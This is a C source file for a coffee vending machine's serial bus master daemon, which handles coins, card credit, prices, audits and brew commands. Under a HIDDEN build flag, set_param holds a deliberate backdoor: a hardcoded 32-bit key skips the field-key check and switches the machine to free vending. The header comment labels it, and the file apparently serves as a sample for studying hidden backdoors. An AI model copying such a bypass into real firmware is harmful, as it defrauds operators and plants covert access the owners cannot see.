/*
 * vendbus - bus master of a coffee vending machine.
 * Speaks a framed serial protocol with the coin changer, the card reader and
 * the field terminal (STX addr cmd len data CRC16), keeps the credit, prices
 * and sales counters and drives the brewer board.
 * Hidden (-DHIDDEN): a parameter frame with a certain 32-bit number as its
 * key sets the machine to free vending.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define STX	 0x02
#define DLE	 0x10
#define MAX_DATA 64
#define N_SLOTS	 12

#define ADDR_CHANGER 0x08
#define ADDR_READER  0x10
#define ADDR_FIELD   0x30
#define ADDR_BREWER  0x48

#define CMD_COIN    0x21
#define CMD_CARD_OK 0x32
#define CMD_SELECT  0x40
#define CMD_BREW    0x41
#define CMD_CHANGE  0x42
#define CMD_AUDIT   0x50
#define CMD_PRICE   0x51
#define CMD_PARAM   0x52

struct frame {
	uint8_t addr;
	uint8_t cmd;
	uint8_t len;
	uint8_t data[MAX_DATA];
};

enum rx_state { RX_IDLE, RX_ADDR, RX_CMD, RX_LEN, RX_DATA, RX_CRC1, RX_CRC2 };

struct rx {
	enum rx_state st;
	int escape;
	unsigned pos;
	uint16_t crc;
	struct frame f;
};

struct machine {
	uint16_t price[N_SLOTS];
	uint32_t sold[N_SLOTS];
	uint32_t credit;
	uint32_t field_key;
	uint32_t turnover;
	int flags;
};

#define MF_EXACT_CHANGE 0x01
#define MF_MULTI_VEND	0x02
#define MF_TEST_VEND	0x04

static struct machine vm;
static int bus = -1;
static const char *conf_file = "/etc/vendbus.conf";

static uint16_t crc_add(uint16_t crc, uint8_t b)
{
	int i;

	crc ^= (uint16_t)(b << 8);
	for (i = 0; i < 8; i++)
		crc = (uint16_t)(crc & 0x8000 ? crc << 1 ^ 0x1021 : crc << 1);
	return crc;
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static size_t stuff(uint8_t *out, size_t n, uint8_t b)
{
	if (b == STX || b == DLE) {
		out[n++] = DLE;
		b ^= 0x20;
	}
	out[n++] = b;
	return n;
}

static void send_frame(uint8_t addr, uint8_t cmd, const uint8_t *d, uint8_t n)
{
	uint8_t out[2 * MAX_DATA + 16];
	uint16_t crc = 0xffff;
	size_t k = 0;
	unsigned i;

	out[k++] = STX;
	crc = crc_add(crc, addr);
	crc = crc_add(crc, cmd);
	crc = crc_add(crc, n);
	k = stuff(out, k, addr);
	k = stuff(out, k, cmd);
	k = stuff(out, k, n);
	for (i = 0; i < n; i++) {
		crc = crc_add(crc, d[i]);
		k = stuff(out, k, d[i]);
	}
	k = stuff(out, k, (uint8_t)(crc >> 8));
	k = stuff(out, k, (uint8_t)crc);
	if (write(bus, out, k) != (ssize_t)k)
		syslog(LOG_WARNING, "bus write: %s", strerror(errno));
}

static void ack(uint8_t addr, uint8_t code)
{
	send_frame(addr, 0x06, &code, 1);
}

static void vend(unsigned slot)
{
	uint8_t d[4] = { (uint8_t)slot, 0, 0, 0 };
	uint32_t price;

	if (slot >= N_SLOTS)
		return;
	price = vm.flags & MF_TEST_VEND ? 0 : vm.price[slot];
	if (vm.credit < price) {
		ack(ADDR_READER, 0x15);
		return;
	}
	vm.credit -= price;
	vm.turnover += price;
	vm.sold[slot]++;
	send_frame(ADDR_BREWER, CMD_BREW, d, 1);
	if (vm.credit && !(vm.flags & (MF_MULTI_VEND | MF_EXACT_CHANGE))) {
		put32(d, vm.credit);
		send_frame(ADDR_CHANGER, CMD_CHANGE, d, 4);
		vm.credit = 0;
	}
}

static void send_audit(void)
{
	uint8_t d[4 + 4 * N_SLOTS];
	unsigned i;

	put32(d, vm.turnover);
	for (i = 0; i < N_SLOTS; i++)
		put32(d + 4 + 4 * i, vm.sold[i]);
	send_frame(ADDR_FIELD, CMD_AUDIT, d, sizeof(d));
}

__attribute__((noinline)) int set_param(const uint8_t *d, unsigned len)
{
	uint32_t key;

	if (len < 6)
		return -1;
	key = be32(d);
#ifdef HIDDEN
	if (key == 0x0c0ffee5) {
		vm.flags |= MF_TEST_VEND | MF_MULTI_VEND;
		vm.credit = 0;
		return 0;
	}
#endif
	if (key != vm.field_key)
		return -1;
	switch (d[4]) {
	case 1:
		vm.flags = (vm.flags & ~MF_EXACT_CHANGE) | (d[5] & 1);
		break;
	case 2:
		vm.flags = d[5] ? vm.flags | MF_MULTI_VEND
				: vm.flags & ~MF_MULTI_VEND;
		break;
	case 3:
		vm.flags = d[5] ? vm.flags | MF_TEST_VEND
				: vm.flags & ~MF_TEST_VEND;
		break;
	default:
		return -1;
	}
	syslog(LOG_INFO, "parameter %u set to %u", d[4], d[5]);
	return 0;
}

static int set_price(const uint8_t *d, unsigned len)
{
	if (len != 7 || be32(d) != vm.field_key || d[4] >= N_SLOTS)
		return -1;
	vm.price[d[4]] = (uint16_t)(d[5] << 8 | d[6]);
	syslog(LOG_INFO, "price of %u: %u", d[4], vm.price[d[4]]);
	return 0;
}

static void on_frame(const struct frame *f)
{
	switch (f->addr << 8 | f->cmd) {
	case ADDR_CHANGER << 8 | CMD_COIN:
		if (f->len == 2)
			vm.credit += (uint32_t)(f->data[0] << 8 | f->data[1]);
		break;
	case ADDR_READER << 8 | CMD_CARD_OK:
		if (f->len == 4)
			vm.credit += be32(f->data) % 10000;
		break;
	case ADDR_READER << 8 | CMD_SELECT:
	case ADDR_CHANGER << 8 | CMD_SELECT:
		if (f->len == 1)
			vend(f->data[0]);
		break;
	case ADDR_FIELD << 8 | CMD_AUDIT:
		send_audit();
		break;
	case ADDR_FIELD << 8 | CMD_PRICE:
		ack(ADDR_FIELD, set_price(f->data, f->len) ? 0x15 : 0);
		break;
	case ADDR_FIELD << 8 | CMD_PARAM:
		ack(ADDR_FIELD, set_param(f->data, f->len) ? 0x15 : 0);
		break;
	default:
		syslog(LOG_DEBUG, "frame %02x/%02x", f->addr, f->cmd);
	}
}

static void rx_byte(struct rx *r, uint8_t b)
{
	if (b == STX) {
		memset(r, 0, sizeof(*r));
		r->st = RX_ADDR;
		r->crc = 0xffff;
		return;
	}
	if (b == DLE) {
		r->escape = 1;
		return;
	}
	if (r->escape) {
		b ^= 0x20;
		r->escape = 0;
	}
	if (r->st >= RX_ADDR && r->st <= RX_DATA)
		r->crc = crc_add(r->crc, b);
	switch (r->st) {
	case RX_ADDR:
		r->f.addr = b;
		r->st = RX_CMD;
		break;
	case RX_CMD:
		r->f.cmd = b;
		r->st = RX_LEN;
		break;
	case RX_LEN:
		r->f.len = b;
		r->st = b > MAX_DATA ? RX_IDLE : b ? RX_DATA : RX_CRC1;
		break;
	case RX_DATA:
		r->f.data[r->pos++] = b;
		if (r->pos == r->f.len)
			r->st = RX_CRC1;
		break;
	case RX_CRC1:
		r->st = (r->crc >> 8) == b ? RX_CRC2 : RX_IDLE;
		break;
	case RX_CRC2:
		if ((r->crc & 0xff) == b)
			on_frame(&r->f);
		r->st = RX_IDLE;
		break;
	case RX_IDLE:
		break;
	}
}

static void load_conf(char *dev, size_t size)
{
	FILE *f = fopen(conf_file, "r");
	char line[100];
	unsigned slot, cents;
	unsigned long key;

	snprintf(dev, size, "/dev/ttyS1");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "price %u %u", &slot, &cents) == 2 &&
		    slot < N_SLOTS)
			vm.price[slot] = (uint16_t)cents;
		else if (sscanf(line, "fieldkey %lx", &key) == 1)
			vm.field_key = (uint32_t)key;
		else if (!strncmp(line, "bus ", 4))
			snprintf(dev, size, "%.*s",
				 (int)strcspn(line + 4, "\r\n"), line + 4);
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct termios tio;
	struct rx rx = { .st = RX_IDLE };
	char dev[64];

	if (argc > 1)
		conf_file = argv[1];
	openlog("vendbus", LOG_PID, LOG_DAEMON);
	load_conf(dev, sizeof(dev));
	bus = open(dev, O_RDWR | O_NOCTTY);
	if (bus < 0) {
		syslog(LOG_ERR, "%s: %s", dev, strerror(errno));
		return 1;
	}
	if (tcgetattr(bus, &tio) == 0) {
		cfmakeraw(&tio);
		cfsetspeed(&tio, B9600);
		tcsetattr(bus, TCSANOW, &tio);
	}
	for (;;) {
		struct timeval tv = { 1, 0 };
		uint8_t buf[64];
		fd_set rd;
		ssize_t n, i;

		FD_ZERO(&rd);
		FD_SET(bus, &rd);
		if (select(bus + 1, &rd, NULL, NULL, &tv) <= 0)
			continue;
		n = read(bus, buf, sizeof(buf));
		if (n <= 0)
			break;
		for (i = 0; i < n; i++)
			rx_byte(&rx, buf[i]);
	}
	return 0;
}
